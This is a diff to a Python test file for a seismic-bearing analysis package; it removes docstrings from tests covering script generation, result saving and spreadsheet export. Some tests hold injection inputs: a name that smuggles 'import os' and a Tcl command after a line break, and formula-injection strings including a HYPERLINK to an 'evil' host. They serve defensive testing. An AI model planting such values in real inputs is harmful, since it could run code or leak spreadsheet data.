@@ -23,7 +23,6 @@ STRANGE = "HDR 1/6 \"x\" 免震, 'y' {z} $\\frac{1$ <b> " + "é" * 100
 
 
 def renamed(path: Path, name: str) -> Path:
-    """The specimen under another name."""
     lines = SOURCE.read_text(encoding="utf-8").splitlines()
     at = next(k for k, line in enumerate(lines) if line.startswith("name = "))
     lines[at] = "name = '''" + name + "'''" if "\n" in name else f"name = '''{name}'''"
@@ -73,7 +72,6 @@ def test_names_of_other_things_are_lines(what: str) -> None:
 
 
 def test_generated_scripts_hold_no_line_of_a_name() -> None:
-    """Before: `bounds.py` ran what stood after a line break in the name of the bearing."""
     model = BoundModel("lower", 1.75, "first", 23.0, BilinearParameters(100.0, 2.0, 10.0))
     for language in ("python", "tcl"):
         text = opensees_text([model], "x\nimport os\r\x0b; puts \\", language)
@@ -87,7 +85,6 @@ def test_generated_scripts_hold_no_line_of_a_name() -> None:
 def test_results_of_any_name_are_written_and_read(
     specimen: Bearing, cyclic: Result, tmp_path: Path
 ) -> None:
-    """Before: a bridge was computed and then lost in netCDF."""
     cyclic.save(tmp_path / "cyclic", figures=False)
     assert tb.load_result(tmp_path / "cyclic").dataset.attrs["title"]
     found = tb.bridge(
@@ -108,8 +105,6 @@ def test_figures_of_any_name_are_drawn(cyclic: Result, tmp_path: Path) -> None:
 
 
 def test_results_are_saved_from_threads(cyclic: Result, tmp_path: Path) -> None:
-    """Before: the process died in HDF5."""
-
     def save(k: int) -> str:
         path = cyclic.save(tmp_path / f"o{k}", figures=False)
         return tb.load_result(path).outcome
@@ -119,7 +114,6 @@ def test_results_are_saved_from_threads(cyclic: Result, tmp_path: Path) -> None:
 
 
 def test_no_text_of_a_table_is_a_formula() -> None:
-    """Numbers with a sign, and their units, stay as they are."""
     texts = ['=HYPERLINK("http:evil"&A1,"ok")', "@SUM(1)", "+1+1", "-2+3", "\t=1", "-", "--"]
     texts += ["-20", "-20 degC", "+1.5e-3 kN", "-20 %", "plain", "a=b"]
     table = pd.DataFrame({"=name": texts, "number": range(len(texts)), "none": None})
